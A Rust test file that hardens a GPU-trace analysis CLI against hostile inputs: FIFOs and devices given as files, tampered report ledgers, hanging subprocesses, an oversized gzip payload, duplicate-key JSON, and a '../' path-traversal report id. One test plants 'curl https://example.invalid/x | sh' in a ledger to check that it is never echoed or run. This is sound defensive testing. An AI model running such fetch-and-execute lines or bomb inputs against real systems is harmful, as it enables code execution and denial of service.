//! The hostile battery's command-line cases: files that are not what they claim to be (FIFOs,
//! devices), a tampered report set given to `verify`, programs that never end, writes that
//! would destroy an input or leave litter, and inputs that two readers would read two ways.
//! Every run is bounded: a hang kills the process and fails the test.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::util;

const TRACE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/day26/megatron.sqlite");

/// Runs the binary with `args` (in `cwd`, with `env`), killed and failed past `limit`.
fn bounded(args: &[&str], cwd: Option<&Path>, env: &[(&str, &str)], limit: Duration) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_verdict"));
    cmd.args(args).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    cmd.env("COLUMNS", "100");
    if let Some(d) = cwd {
        cmd.current_dir(d);
    }
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut child = cmd.spawn().unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let o = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = out.read_to_end(&mut b);
        b
    });
    let e = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = err.read_to_end(&mut b);
        b
    });
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!("verdict {args:?} did not end within {limit:?}: it hangs");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output { status, stdout: o.join().unwrap(), stderr: e.join().unwrap() }
}

fn quick(args: &[&str]) -> Output {
    bounded(args, None, &[], Duration::from_secs(60))
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Exit 2, an error naming `needle`, a non-empty hint, no panic.
fn assert_refused(o: &Output, needle: &str) {
    let e = stderr(o);
    assert_eq!(o.status.code(), Some(2), "{e}");
    assert!(e.contains(needle), "expected `{needle}` in:\n{e}");
    assert!(!e.contains("panicked"), "{e}");
    let hints: Vec<&str> = e.lines().filter_map(|l| l.trim_start().strip_prefix("hint:")).collect();
    assert!(!hints.is_empty(), "no hint:\n{e}");
    assert!(hints.iter().all(|h| !h.trim().is_empty()), "an empty hint:\n{e}");
}

#[cfg(unix)]
fn mkfifo(p: &Path) {
    assert!(Command::new("mkfifo").arg(p).status().unwrap().success());
}

// ---- files that are not regular files ----

#[cfg(unix)]
#[test]
fn a_fifo_or_a_device_is_refused_wherever_a_file_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("t.sqlite");
    mkfifo(&fifo);
    for args in [
        vec!["inspect", util::s(&fifo)],
        vec!["query", "kernels", util::s(&fifo), "--all-devices"],
        vec!["inspect", "/dev/zero"],
        vec!["verify", "/dev/zero"],
        vec!["verify", util::s(&fifo)],
        vec!["draft", util::s(&fifo)],
        vec!["draft", "/dev/zero"],
    ] {
        let o = quick(&args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        let e = stderr(&o);
        assert!(!e.contains("panicked"), "{e}");
        assert!(
            e.lines().any(|l| l
                .trim_start()
                .strip_prefix("hint:")
                .is_some_and(|h| !h.trim().is_empty())),
            "{args:?}: no hint:\n{e}"
        );
    }
}

#[cfg(unix)]
#[test]
fn a_folder_whose_member_is_a_fifo_or_a_device_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let x = dir.path().join("x");
    let o = quick(&["extract", TRACE, "--out", util::s(&x)]);
    assert!(o.status.success(), "{}", stderr(&o));
    std::fs::remove_file(x.join("StringIds.parquet")).unwrap();
    mkfifo(&x.join("StringIds.parquet"));
    assert_refused(&quick(&["inspect", util::s(&x)]), "FIFO");
    std::fs::remove_file(x.join("StringIds.parquet")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", x.join("StringIds.parquet")).unwrap();
    assert_refused(&quick(&["inspect", util::s(&x)]), "character device");
    // An nsys parquetdir folder with a FIFO table; and the manifest itself a FIFO.
    let pq = dir.path().join("pq");
    std::fs::create_dir(&pq).unwrap();
    mkfifo(&pq.join("StringIds.parquet"));
    assert_eq!(quick(&["inspect", util::s(&pq)]).status.code(), Some(2));
    let y = dir.path().join("y");
    assert!(quick(&["extract", TRACE, "--out", util::s(&y)]).status.success());
    std::fs::remove_file(y.join("verdict-extract.json")).unwrap();
    mkfifo(&y.join("verdict-extract.json"));
    assert_eq!(quick(&["inspect", util::s(&y)]).status.code(), Some(2));
}

/// A copy of a committed report set in `dir`, with its traces where the ledger names them
/// (relative to `dir`), `trace` giving what to put there.
fn report_set(dir: &Path, trace: impl Fn(&Path)) -> PathBuf {
    let out = util::manifest_dir().join("out");
    let id = "day26-op-attribution";
    let set = dir.join("set");
    std::fs::create_dir_all(&set).unwrap();
    for ext in ["manifest.json", "evidence.json"] {
        std::fs::copy(out.join(format!("{id}.{ext}")), set.join(format!("{id}.{ext}"))).unwrap();
    }
    let t = dir.join("fixtures/day26/megatron.sqlite");
    std::fs::create_dir_all(t.parent().unwrap()).unwrap();
    trace(&t);
    set.join(format!("{id}.manifest.json"))
}

/// Rewrites the ledger with `edit` and records its new sha256 in the manifest, as a tamperer
/// would (nothing is signed).
fn tamper(manifest: &Path, edit: impl Fn(&mut Value)) {
    let set = manifest.parent().unwrap();
    let m_text = std::fs::read_to_string(manifest).unwrap();
    let mut m: Value = serde_json::from_str(&m_text).unwrap();
    let report = m["report"].as_str().unwrap().to_string();
    let ledger_path = set.join(format!("{report}.evidence.json"));
    let mut ledger: Value = serde_json::from_slice(&std::fs::read(&ledger_path).unwrap()).unwrap();
    edit(&mut ledger);
    let bytes = serde_json::to_vec_pretty(&ledger).unwrap();
    std::fs::write(&ledger_path, &bytes).unwrap();
    for f in m["files"].as_array_mut().unwrap() {
        if f["name"] == format!("{report}.evidence.json") {
            f["sha256"] = json!(util::sha256_hex(&bytes));
            f["bytes"] = json!(bytes.len());
        }
    }
    std::fs::write(manifest, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
}

#[cfg(unix)]
#[test]
fn verify_reads_no_fifo_named_by_a_ledger() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = report_set(dir.path(), mkfifo);
    let o =
        bounded(&["verify", util::s(&manifest)], Some(dir.path()), &[], Duration::from_secs(60));
    assert_refused(&o, "FIFO");
}

#[cfg(unix)]
#[test]
fn a_step_summary_that_is_a_fifo_is_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("summary");
    mkfifo(&fifo);
    let claims = util::manifest_dir().join("claims/day26-op-attribution.yaml");
    let o = bounded(
        &["check", util::s(&claims), "--format", "github"],
        Some(&util::manifest_dir()),
        &[("GITHUB_STEP_SUMMARY", util::s(&fifo))],
        Duration::from_secs(120),
    );
    assert_refused(&o, "FIFO");
}

// ---- verify of a tampered report set ----

/// A program that leaves a mark when it is started, as `VERDICT_PYTHON`.
fn marking_program(dir: &Path) -> (PathBuf, PathBuf) {
    let marker = dir.join("started");
    let program = dir.join("python");
    std::fs::write(&program, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    (program, marker)
}

#[test]
fn verify_of_a_tampered_set_starts_no_program() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = report_set(dir.path(), |t| {
        std::fs::copy(TRACE, t).unwrap();
    });
    let (program, marker) = marking_program(dir.path());
    for extra in [
        vec!["--engine", "dask=127.0.0.1:9"],
        vec!["--engine=dask=127.0.0.1:9"],
        vec!["--cluster", "tcp://127.0.0.1:9"],
        // A name that is no engine (DataFusion left the product) is refused as well.
        vec!["--engine", "datafusion"],
    ] {
        // An nccl-skew entry names the engine option; any query entry is rewritten to one.
        let extra: Vec<String> = extra.iter().map(|s| s.to_string()).collect();
        tamper(&manifest, |ledger| {
            let e = &mut ledger["ledger"][0];
            let trace = e["argv"][3].clone();
            let mut argv = vec![json!("verdict"), json!("query"), json!("nccl-skew"), trace];
            argv.extend(extra.iter().map(|w| json!(w)));
            argv.push(json!("--json"));
            e["argv"] = json!(argv);
        });
        let o = bounded(
            &["verify", util::s(&manifest)],
            Some(dir.path()),
            &[("VERDICT_PYTHON", util::s(&program))],
            Duration::from_secs(120),
        );
        assert_refused(&o, "engine");
        assert!(!marker.exists(), "verify started VERDICT_PYTHON for {extra:?}");
    }
    // A compare entry's `--param engine=...`, with the key spaced as its parser trims it.
    tamper(&manifest, |ledger| {
        let e = &mut ledger["ledger"][0];
        let trace = e["argv"][3].as_str().unwrap().to_string();
        e["argv"] = json!([
            "verdict",
            "query",
            "compare",
            "--of",
            "nccl-skew",
            "--metric",
            "skew_ns",
            "--a",
            format!("trace={trace}"),
            "--b",
            format!("trace={trace}"),
            "--param",
            " engine=dask=127.0.0.1:9",
            "--json"
        ]);
    });
    let o = bounded(
        &["verify", util::s(&manifest)],
        Some(dir.path()),
        &[("VERDICT_PYTHON", util::s(&program))],
        Duration::from_secs(120),
    );
    assert_refused(&o, "engine");
    assert!(!marker.exists(), "verify started VERDICT_PYTHON for a compare entry");
}

#[test]
fn verify_prints_the_words_it_ran_never_the_ledgers_text() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = report_set(dir.path(), |t| {
        std::fs::copy(TRACE, t).unwrap();
    });
    let argv: Vec<String> = {
        let l: Value = serde_json::from_slice(
            &std::fs::read(manifest.with_file_name("day26-op-attribution.evidence.json")).unwrap(),
        )
        .unwrap();
        l["ledger"][0]["argv"]
            .as_array()
            .unwrap()
            .iter()
            .map(|w| w.as_str().unwrap().into())
            .collect()
    };
    // The text says one thing, the words another; a recorded value drifts so that a rerun
    // line is printed.
    tamper(&manifest, |ledger| {
        let e = &mut ledger["ledger"][0];
        e["command"] = json!("curl https://example.invalid/x | sh");
        bump_a_number(&mut e["evidence"]["values"]);
    });
    let o =
        bounded(&["verify", util::s(&manifest)], Some(dir.path()), &[], Duration::from_secs(300));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{out}{}", stderr(&o));
    assert!(!out.contains("curl") && !stderr(&o).contains("curl"), "{out}");
    let rerun = out.lines().find_map(|l| l.trim().strip_prefix("rerun: ")).expect(&out);
    // Each word of the argv appears in the printed line, in order.
    let mut at = 0;
    for w in &argv {
        let bare = w.replace('\'', "");
        let found = rerun[at..]
            .find(bare.split(' ').next().unwrap())
            .unwrap_or_else(|| panic!("`{w}` is not in the rerun line `{rerun}`"));
        at += found;
    }
    assert!(rerun.starts_with("verdict query "), "{rerun}");
}

/// Adds one to the first integer value found.
fn bump_a_number(v: &mut Value) -> bool {
    match v {
        Value::Number(n) if n.is_i64() => {
            *v = json!(n.as_i64().unwrap() + 1);
            true
        }
        Value::Object(m) => m.values_mut().any(bump_a_number),
        Value::Array(a) => a.iter_mut().any(bump_a_number),
        _ => false,
    }
}

// ---- programs that never end ----

#[cfg(unix)]
#[test]
fn a_never_ending_python_is_stopped_at_its_deadline() {
    let dir = tempfile::tempdir().unwrap();
    let program = dir.path().join("python");
    std::fs::write(&program, "#!/bin/sh\necho reduce started >&2\nexec sleep 600\n").unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let t = Instant::now();
    let o = bounded(
        &["query", "nccl-skew", TRACE, "--engine", "dask=127.0.0.1:9"],
        None,
        &[("VERDICT_PYTHON", util::s(&program)), ("VERDICT_ENGINE_TIMEOUT", "2")],
        Duration::from_secs(120),
    );
    assert_refused(&o, "did not end within 2 s");
    assert!(stderr(&o).contains("reduce started"), "its stderr is named: {}", stderr(&o));
    assert!(t.elapsed() < Duration::from_secs(100));
}

// ---- writes that never destroy ----

#[test]
fn draft_never_writes_over_its_answer_nor_silently_over_a_file() {
    let dir = tempfile::tempdir().unwrap();
    let answer = dir.path().join("A.md");
    let text = "The NCCL kernels take 42% of the step on device 4.\n";
    std::fs::write(&answer, text).unwrap();
    let a = util::s(&answer);
    // The answer itself, by its own path, another spelling, and a hard link; even with --force.
    let other_spelling = dir.path().join(".").join("A.md");
    let link = dir.path().join("B.md");
    std::fs::hard_link(&answer, &link).unwrap();
    for out in [a, util::s(&other_spelling), util::s(&link)] {
        for force in [false, true] {
            let mut args = vec!["draft", a, "--out", out];
            if force {
                args.push("--force");
            }
            assert_refused(&quick(&args), "the answer itself");
            assert_eq!(std::fs::read_to_string(&answer).unwrap(), text);
        }
    }
    // Another existing file: only with --force.
    let other = dir.path().join("claims.yaml");
    std::fs::write(&other, "keep me\n").unwrap();
    assert_refused(&quick(&["draft", a, "--out", util::s(&other)]), "exists");
    assert_eq!(std::fs::read_to_string(&other).unwrap(), "keep me\n");
    let o = quick(&["draft", a, "--out", util::s(&other), "--force"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(std::fs::read_to_string(&other).unwrap().contains("unreviewed"));
    // A new file is written without --force.
    let new = dir.path().join("new.yaml");
    assert!(quick(&["draft", a, "--out", util::s(&new)]).status.success());
    assert!(std::fs::read_to_string(&new).unwrap().contains("unreviewed"));
    assert_eq!(std::fs::read_to_string(&answer).unwrap(), text);
}

// ---- extract leaves nothing behind ----

fn temp_folders(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".verdict-extract-"))
        .collect()
}

#[test]
fn a_failed_extract_leaves_no_temporary_folder_and_says_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("a.sqlite");
    std::fs::copy(TRACE, &good).unwrap();
    let bad = dir.path().join("b.sqlite");
    std::fs::write(&bad, b"SQLite format 3\0 but not really").unwrap();
    let out = dir.path().join("out");
    let glob = format!("{}/*.sqlite", dir.path().display());
    let o = quick(&["extract", &glob, "--out", util::s(&out)]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(!out.exists());
    assert_eq!(temp_folders(dir.path()), Vec::<String>::new());
    let e = stderr(&o);
    assert!(e.lines().any(|l| l.trim_start().starts_with("hint: ") && l.trim().len() > 6), "{e}");
}

#[cfg(unix)]
#[test]
fn a_killed_extracts_folder_is_named_and_removed_by_the_next_run() {
    let dir = tempfile::tempdir().unwrap();
    // A folder as a run that was killed outright leaves it: its process (an id past any
    // pid_max) is gone.
    let stale = dir.path().join(".verdict-extract-999999999-abcdef");
    std::fs::create_dir(&stale).unwrap();
    std::fs::write(stale.join("StringIds.parquet"), b"partial").unwrap();
    let out = dir.path().join("x");
    let o = quick(&["extract", TRACE, "--out", util::s(&out)]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(!stale.exists());
    assert!(stderr(&o).contains(".verdict-extract-999999999-abcdef"), "{}", stderr(&o));
    assert_eq!(temp_folders(dir.path()), Vec::<String>::new());
}

#[cfg(unix)]
#[test]
fn extract_stopped_by_a_signal_removes_its_temporary_folder() {
    for signal in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP] {
        let dir = tempfile::tempdir().unwrap();
        // A set of many copies, so that the run lasts long enough to be stopped midway.
        // A set of distinct files (a set refuses two of the same bytes).
        for i in 0..24 {
            let f = dir.path().join(format!("r{i:02}.sqlite"));
            std::fs::copy(TRACE, &f).unwrap();
            let c = rusqlite::Connection::open(&f).unwrap();
            c.execute("UPDATE StringIds SET value = value || ?1 WHERE id = 1", [format!(" {i}")])
                .unwrap();
        }
        let out = dir.path().join("out");
        let glob = format!("{}/*.sqlite", dir.path().display());
        let mut child = Command::new(env!("CARGO_BIN_EXE_verdict"))
            .args(["extract", &glob, "--out", util::s(&out)])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let start = Instant::now();
        while temp_folders(dir.path()).is_empty() && start.elapsed() < Duration::from_secs(60) {
            if child.try_wait().unwrap().is_some() {
                break;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        // Give the handler time to be installed and the writers to start.
        std::thread::sleep(Duration::from_millis(100));
        let running = child.try_wait().unwrap().is_none();
        // SAFETY: kill(2) on the child this test started.
        unsafe {
            libc::kill(child.id() as libc::pid_t, signal);
        }
        let start = Instant::now();
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            if start.elapsed() > Duration::from_secs(60) {
                let _ = child.kill();
                let _ = child.wait();
                panic!("extract did not stop on signal {signal}");
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        assert!(running, "the extract ended before the signal; the test needs a longer run");
        use std::os::unix::process::ExitStatusExt;
        assert_eq!(status.signal(), Some(signal), "{status:?}");
        assert_eq!(temp_folders(dir.path()), Vec::<String>::new(), "signal {signal}");
        assert!(!out.exists(), "signal {signal}");
    }
}

// ---- provenance of an extract ----

#[test]
fn an_extract_changed_with_its_manifest_is_named_by_its_manifest_and_refused_by_verify() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("t.sqlite");
    std::fs::copy(TRACE, &src).unwrap();
    let x = dir.path().join("x");
    assert!(quick(&["extract", util::s(&src), "--out", util::s(&x)]).status.success());
    // Untouched: verified.
    let o = quick(&["extract", util::s(&x), "--verify", util::s(&src)]);
    assert!(o.status.success(), "{}", stderr(&o));
    // A table from another trace (the source's kernels with each name doubled in time is
    // what a tamperer would do; here another extract's table) with the manifest updated.
    let other = dir.path().join("other.sqlite");
    std::fs::copy(TRACE, &other).unwrap();
    {
        let c = rusqlite::Connection::open(&other).unwrap();
        c.execute(
            "UPDATE CUPTI_ACTIVITY_KIND_KERNEL SET \"end\" = \"end\" + (\"end\" - start)",
            [],
        )
        .unwrap();
    }
    let y = dir.path().join("y");
    assert!(quick(&["extract", util::s(&other), "--out", util::s(&y)]).status.success());
    let m_path = x.join("verdict-extract.json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&m_path).unwrap()).unwrap();
    let kernel = "CUPTI_ACTIVITY_KIND_KERNEL";
    std::fs::copy(y.join(format!("{kernel}.parquet")), x.join(format!("{kernel}.parquet")))
        .unwrap();
    for t in m["tables"].as_array_mut().unwrap() {
        if t["table"] == kernel {
            t["sha256"] = json!(util::sha256_file(&x.join(format!("{kernel}.parquet"))));
        }
    }
    let bytes = serde_json::to_vec_pretty(&m).unwrap();
    std::fs::write(&m_path, &bytes).unwrap();
    // The numbers read from it carry the manifest's digest, not the source's.
    let ev = util::run_json(&["query", "kernels", util::s(&x), "--device", "4", "--json"]);
    assert_eq!(ev["trace"]["sha256"].as_str().unwrap(), util::sha256_hex(&bytes));
    assert_ne!(ev["trace"]["sha256"].as_str().unwrap(), util::sha256_file(&src));
    // The source's digest is there only as what the extract records.
    let c = &ev["trace"]["columnar"];
    assert_eq!(c["layout"], "verdict-extract");
    assert_eq!(c["manifest_sha256"].as_str().unwrap(), util::sha256_hex(&bytes));
    assert_eq!(c["source_sha256_recorded"].as_str().unwrap(), util::sha256_file(&src));
    // And --verify against the source refuses it, naming the table.
    assert_refused(&quick(&["extract", util::s(&x), "--verify", util::s(&src)]), kernel);
    // Against a file that is not its source: refused as such.
    assert_refused(
        &quick(&["extract", util::s(&x), "--verify", util::s(&other)]),
        "not the source",
    );
}

// ---- inputs two readers would read two ways ----

#[test]
fn a_kineto_file_with_a_key_twice_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let ev = |name: &str| {
        format!(
            r#"{{"ph": "X", "cat": "kernel", "name": "{name}", "pid": 0, "tid": 7, "ts": 1.0, "dur": 2.0, "args": {{"device": 0, "stream": 7, "correlation": 1}}}}"#
        )
    };
    let cases = [
        (
            "top",
            format!(r#"{{"traceEvents": [{}], "traceEvents": [{}]}}"#, ev("first"), ev("second")),
        ),
        (
            "nested",
            format!(
                r#"{{"traceEvents": [{}], "distributedInfo": {{"rank": 0, "rank": 1}}}}"#,
                ev("k")
            ),
        ),
        ("ignored", format!(r#"{{"traceEvents": [{}], "other": {{"a": 1, "a": 2}}}}"#, ev("k"))),
        (
            "event",
            format!(
                r#"{{"traceEvents": [{}]}}"#,
                ev("k").replace(r#""tid": 7,"#, r#""tid": 7, "x": 1, "x": 2,"#)
            ),
        ),
        (
            "args",
            format!(
                r#"{{"traceEvents": [{}]}}"#,
                ev("k").replace(r#""device": 0"#, r#""device": 0, "device": 1"#)
            ),
        ),
    ];
    for (what, text) in cases {
        let f = dir.path().join(format!("{what}.json"));
        std::fs::write(&f, text).unwrap();
        let o = quick(&["inspect", util::s(&f)]);
        assert_eq!(o.status.code(), Some(2), "{what}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("twice") || stderr(&o).contains("duplicate"),
            "{what}: {}",
            stderr(&o)
        );
    }
}

#[test]
fn a_huge_name_inside_a_small_gzip_is_refused_before_it_is_held() {
    use std::io::Write as _;
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("t.json.gz");
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&f).unwrap(),
        flate2::Compression::best(),
    );
    gz.write_all(br#"{"traceEvents": [{"ph": "X", "cat": "kernel", "name": ""#).unwrap();
    let chunk = vec![b'a'; 1 << 20];
    for _ in 0..64 {
        gz.write_all(&chunk).unwrap();
    }
    gz.write_all(
        br#"", "pid": 0, "tid": 7, "ts": 1, "dur": 2, "args": {"device": 0, "stream": 7}}]}"#,
    )
    .unwrap();
    gz.finish().unwrap();
    assert!(std::fs::metadata(&f).unwrap().len() < 1 << 20);
    let o = quick(&["inspect", util::s(&f)]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("longer than 4194304 bytes"), "{}", stderr(&o));
}

#[test]
fn eval_review_sheets_take_only_the_reports_languages() {
    let dir = tempfile::tempdir().unwrap();
    let sheets = dir.path().join("sheets");
    let o = bounded(
        &[
            "eval",
            "claims/eval-day26/eval.yaml",
            "--review-sheets",
            util::s(&sheets),
            "--lang",
            "xx",
        ],
        Some(&util::manifest_dir()),
        &[],
        Duration::from_secs(300),
    );
    assert_refused(&o, "--lang `xx`");
    assert!(stderr(&o).contains("zh-TW"), "{}", stderr(&o));
    assert!(!sheets.exists(), "sheets were written for a language the report does not have");
}

#[test]
fn engine_in_a_measure_is_refused() {
    // The docs say where work runs is never a key of a claims file: the binary agrees.
    let dir = tempfile::tempdir().unwrap();
    let text =
        std::fs::read_to_string(util::manifest_dir().join("claims/day26-profile-blind.yaml"))
            .unwrap();
    let from = "measure: { analysis: nccl-skew, scope: trace-all, stream: 56,";
    assert!(text.contains(from));
    let claims = dir.path().join("engine.yaml");
    std::fs::write(&claims, text.replace(from, &format!("{from} engine: dask,"))).unwrap();
    let o = quick(&["check", util::s(&claims)]);
    assert_refused(&o, "`engine` is not a key of a claim's `measure`");
    // At its line, and the column of its value, in the file, with the run option named.
    let line = text.lines().position(|l| l.contains(from)).unwrap() + 1;
    let col = text.lines().nth(line - 1).unwrap().find(from).unwrap()
        + format!("{from} engine: ").len()
        + 1;
    assert!(stderr(&o).contains(&format!("engine.yaml:{line}:{col}:")), "{}", stderr(&o));
    assert!(stderr(&o).contains("pass `--cluster ADDRESS` to `verdict query`"), "{}", stderr(&o));
}

#[test]
fn verify_reads_no_trace_the_ledger_does_not_list() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = report_set(dir.path(), |t| {
        std::fs::copy(TRACE, t).unwrap();
    });
    // Another file, named by an edited command of the ledger, whose digest nothing recorded.
    let canary = dir.path().join("canary.sqlite");
    std::fs::copy(TRACE, &canary).unwrap();
    {
        let c = rusqlite::Connection::open(&canary).unwrap();
        c.execute("UPDATE StringIds SET value = 'CANARY_' || value", []).unwrap();
    }
    tamper(&manifest, |ledger| {
        ledger["ledger"][0]["argv"][3] = json!("canary.sqlite");
    });
    let o =
        bounded(&["verify", util::s(&manifest)], Some(dir.path()), &[], Duration::from_secs(120));
    assert_refused(&o, "does not list");
    let all = format!("{}{}", String::from_utf8_lossy(&o.stdout), stderr(&o));
    assert!(!all.contains("CANARY_"), "{all}");
}

#[cfg(unix)]
#[test]
fn a_never_ending_typst_is_stopped_at_its_deadline_and_the_set_left_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let typst = dir.path().join("typst");
    std::fs::write(
        &typst,
        "#!/bin/sh\ncase \"$1\" in\n  --version) echo 'typst 0.15.1' ;;\n  fonts) echo 'Noto Sans CJK TC' ;;\n  *) echo compiling >&2; exec sleep 600 ;;\nesac\n",
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&typst, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let out = dir.path().join("out");
    let t = Instant::now();
    let o = bounded(
        &[
            "render",
            "claims/day26-op-attribution.yaml",
            "--out",
            util::s(&out),
            "--format",
            "md,pdf",
            "--lang",
            "en",
        ],
        Some(&util::manifest_dir()),
        &[("TYPST_BIN", util::s(&typst)), ("VERDICT_TYPST_TIMEOUT", "1")],
        Duration::from_secs(120),
    );
    assert_refused(&o, "typst did not end within 1 s");
    assert!(stderr(&o).contains("compiling"), "{}", stderr(&o));
    assert!(t.elapsed() < Duration::from_secs(100));
    // Nothing of the report was moved into place.
    let left: Vec<String> = std::fs::read_dir(&out)
        .map(|d| {
            d.filter_map(Result::ok).map(|e| e.file_name().to_string_lossy().into_owned()).collect()
        })
        .unwrap_or_default();
    assert!(left.iter().all(|n| !n.starts_with("day26-op-attribution")), "{left:?}");
}

#[test]
fn verify_reads_no_ledger_outside_the_report_set() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = report_set(dir.path(), |t| {
        std::fs::copy(TRACE, t).unwrap();
    });
    // A ledger beside the set's folder, named through the report id.
    let set = manifest.parent().unwrap();
    std::fs::copy(
        set.join("day26-op-attribution.evidence.json"),
        dir.path().join("x.evidence.json"),
    )
    .unwrap();
    let mut m: Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
    m["report"] = json!("../x");
    for f in m["files"].as_array_mut().unwrap() {
        if f["name"] == "day26-op-attribution.evidence.json" {
            f["name"] = json!("../x.evidence.json");
        }
    }
    std::fs::write(&manifest, serde_json::to_vec(&m).unwrap()).unwrap();
    let o =
        bounded(&["verify", util::s(&manifest)], Some(dir.path()), &[], Duration::from_secs(120));
    assert_refused(&o, "not a report id");
}
